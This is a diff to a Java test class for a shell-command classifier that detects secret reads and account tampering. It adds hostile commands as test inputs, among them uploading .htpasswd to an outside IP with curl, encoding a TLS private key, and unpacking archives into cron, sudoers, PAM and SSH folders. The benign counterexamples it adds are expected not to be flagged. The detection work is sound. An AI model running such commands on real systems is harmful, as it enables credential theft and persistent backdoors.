@@ -106,6 +106,14 @@ class CapabilitiesTest {
         assertThat(shows(Family.SECRET_READ, "ln -s /root/.pgpass /var/www/html/p.txt")).isTrue();
         assertThat(shows(Family.SECRET_READ, "nl /var/run/secrets/kubernetes.io/serviceaccount/token > /tmp/t")).isTrue();
         assertThat(shows(Family.SECRET_READ, "sh -c 'tac /etc/ssh/ssh_host_ed25519_key'")).isTrue();
+        // a web server's own secrets: a CA-issued TLS key, basic-auth hashes, the servlet container's accounts
+        assertThat(shows(Family.SECRET_READ, "base64 -w0 /etc/letsencrypt/live/shop.example.org/privkey.pem")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "curl -F f=@/etc/nginx/.htpasswd http://198.51.100.9/u")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "cat /opt/tomcat/conf/tomcat-users.xml")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "htpasswd -v /etc/apache2/.htpasswd alice")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "ls -l /etc/letsencrypt/live/shop.example.org/privkey.pem")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "cp /etc/letsencrypt/live/shop.example.org/privkey.pem /etc/haproxy/certs/shop.key")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "cat /opt/tomcat/conf/server.xml")).isFalse();
         // the same files used, guarded, edited or copied among the owner's own files
         assertThat(shows(Family.SECRET_READ, "ssh -i /root/.ssh/id_rsa deploy@web1")).isFalse();
         assertThat(shows(Family.SECRET_READ, "chmod 600 /home/alice/.ssh/id_ed25519")).isFalse();
@@ -131,6 +139,16 @@ class CapabilitiesTest {
         assertThat(shows(Family.ACCOUNT_WRITE, "sed -i 's/^root:x:/root::/' /etc/passwd")).isTrue();
         assertThat(shows(Family.ACCOUNT_WRITE, "perl -pi -e 's/^www-data:[^:]*:/www-data::/' /etc/shadow")).isTrue();
         assertThat(shows(Family.ACCOUNT_WRITE, "rsync /dev/shm/job /var/spool/cron/crontabs/root")).isTrue();
+        // an archive unpacked into a cron, sudoers, PAM or another login's SSH folder
+        assertThat(shows(Family.ACCOUNT_WRITE, "tar xf /var/tmp/j.tar -C /etc/cron.d")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "tar -xzf k.tgz --directory=/root/.ssh")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "sudo bsdtar -x -f s.tar -C /etc/sudoers.d/")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "unzip -o k.zip -d /home/deploy/.ssh")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "7z x p.7z -o/etc/pam.d")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "tar -czf /backup/cron.tgz -C /etc/cron.d .")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "tar -xzf site.tgz -C /var/www/html")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "unzip -l keys.zip")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "7z a -o/etc/cron.d x.7z")).isFalse();
         assertThat(shows(Family.ACCOUNT_WRITE, "split -n 1 /tmp/pre /etc/ld.so.preload")).isTrue();
         assertThat(shows(Family.ACCOUNT_WRITE, "wget -q http://198.51.100.9/k -O /home/alice/.ssh/authorized_keys")).isTrue();
         assertThat(shows(Family.ACCOUNT_WRITE, "mv /tmp/.p /etc/pam.d/sshd")).isTrue();
